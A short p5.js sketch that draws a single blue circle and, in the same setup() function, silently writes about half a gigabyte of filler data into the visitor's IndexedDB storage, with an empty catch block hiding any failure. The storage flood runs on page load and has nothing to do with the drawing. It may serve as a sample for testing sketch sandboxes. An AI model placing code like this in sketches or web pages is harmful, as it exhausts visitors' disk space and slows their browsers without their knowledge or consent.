// Fills a database with half a gigabyte.
function setup() {
  createCanvas(200, 200, WEBGL);
  background('#f6f0e1');
  fill('#2f4f7f');
  circle(0, 0, 120);
  try {
    const request = indexedDB.open('full', 1);
    request.onupgradeneeded = () => request.result.createObjectStore('heap', { autoIncrement: true });
    request.onsuccess = () => {
      const heap = request.result.transaction('heap', 'readwrite').objectStore('heap');
      for (let i = 0; i < 32; i++) heap.add(new Uint8Array(16 << 20).fill(i));
    };
  } catch {}
}
